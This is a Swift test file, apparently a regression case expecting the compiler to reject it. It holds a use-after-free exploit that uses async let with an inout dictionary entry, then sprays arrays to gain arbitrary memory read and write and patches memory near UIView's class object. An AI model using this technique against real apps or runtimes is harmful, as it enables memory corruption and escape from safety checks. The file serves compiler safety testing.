// Attack: uses a freed object while an `async let` that changes the variable waits.
// Exercise: 3
// Expect: notAccepted
// Held by: the compiler's parse: async let
import UIKit

final class Small { // as large as a list of 26 numbers
    var n = 1
    var a = (0, 0, 0, 0, 0, 0, 0, 0), b = (0, 0, 0, 0, 0, 0, 0, 0), c = (0, 0, 0, 0, 0, 0, 0, 0), d = (0, 0, 0)
}
final class Store {
    var d: [String: Small] = ["k": Small()]
    func go() async { async let x: Void = drop(&d["k"]) }
    var at = 0
    func nothing() async {}
    func drop(_ a: inout Small?) async {
        a = nil
        Mem.fill()
        while at == 0 { async let x: Void = nothing() }
    }
}
enum Mem {
    static var arrays: [[Int]] = []
    static var base: UInt = 0
    static var at = -1
    static let s = Store()
    static var isBegun = false
    static func begin() {
        s.d["k"]!.n = Int.max
        base = UInt(bitPattern: ObjectIdentifier(s.d["k"]!)) &+ 32
        for i in arrays.indices where arrays[i].count == Int.max { at = i }
    }
    static func fill() { for i in 0..<60 { arrays.append((0..<26).map { $0 }) } }
    static func get(_ a: UInt) -> Int { arrays[at][Int((a &- base) >> 3)] }
    static func set(_ a: UInt, _ n: Int) { arrays[at][Int((a &- base) >> 3)] = n }
    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x229b8
    static var old = 0
}

class BaseView: UIView {
    override init(frame: CGRect) {
        super.init(frame: frame)
        if !Mem.isBegun { Mem.isBegun = true; Task { async let x: Void = Mem.s.go() } }
    }
    required init?(coder: NSCoder) { super.init(coder: coder) }

    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        if Mem.at < 0 { Mem.begin() }
        Mem.old = Mem.get(Mem.kinds)
        Mem.set(Mem.kinds, 0)
        defer { Mem.set(Mem.kinds, Mem.old) }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Mem.set(Mem.kinds, Mem.old)
        return super.point(inside: point, with: event)
    }
}
